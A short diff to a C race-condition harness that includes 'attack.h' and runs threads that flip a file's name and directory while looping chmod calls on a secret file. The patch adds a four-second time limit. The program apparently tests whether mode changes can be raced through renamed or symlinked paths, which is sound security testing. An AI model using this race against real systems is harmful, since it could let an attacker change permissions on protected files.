@@ -1,5 +1,6 @@
 // The name of the file changes while the question whether its mode may be changed is looked at; so does where the name leads.
 #include <pthread.h>
+#include <time.h>
 #include "attack.h"
 static volatile int is_over;
 static char name[4096];
@@ -25,7 +26,8 @@ int main(void) {
   close(open("own/secret", O_CREAT | O_WRONLY, 0600));
   pthread_create(&one, NULL, flip_name, NULL);
   pthread_create(&two, NULL, flip_directory, NULL);
-  for (int i = 0; i < 1500; i++) {
+  time_t end = time(NULL) + 4;
+  for (int i = 0; i < 1500 && time(NULL) < end; i++) {
     chmod(name, 0640);
     chmod("own/secret", 0640);
     chmod(i & 1 ? "own" : name, 0750);
